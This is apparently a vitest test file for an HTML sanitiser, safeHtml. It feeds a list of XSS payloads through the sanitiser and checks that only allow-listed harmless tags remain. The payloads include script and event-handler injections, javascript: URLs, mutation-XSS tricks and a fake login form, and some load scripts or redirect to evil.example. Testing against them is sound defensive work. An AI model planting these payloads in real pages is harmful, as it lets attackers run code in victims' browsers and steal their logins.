import { describe, expect, it } from 'vitest'
import { safeHtml } from '#server/import/files/fields.ts'

/* HTML of the operator's files is put into pages as it is, so nothing in it may run or leave the page. */

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onmouseover="alert(1)" onclick=alert(1)>x</p>',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a id=__proto__ name=location href="https://evil.example">x</a>',
]

/** What may be left of a tag: a name, and few attributes that cannot run. */
const harmlessTag =
  /^<\/?(?:a|abbr|address|b|blockquote|br|dd|div|dl|dt|em|h2|h3|h4|hr|i|li|ol|p|small|span|strong|sub|sup|table|tbody|td|th|thead|time|tr|ul)(?: (?:href="(?:https?:\/\/|mailto:|tel:)[^"<>\s]*"|rel="noopener"|title="[^"<>]*"|scope="\w*"|datetime="[^"<>]*"))*(?: \/)?>$/

describe('HTML of the operator', () => {
  it.each(payloads)('runs nothing: %s', (payload) => {
    const safe = safeHtml(`<p>before</p>${payload}`)
    const tags = safe.match(/<[^>]*>?/g) ?? []
    expect(tags.filter((tag) => !harmlessTag.test(tag))).toEqual([])
    expect(safe).toContain('<p>before</p>')
    // What was taken out once stays out: nothing is put together by taking out.
    expect(safeHtml(safe)).toBe(safe)
  })
})
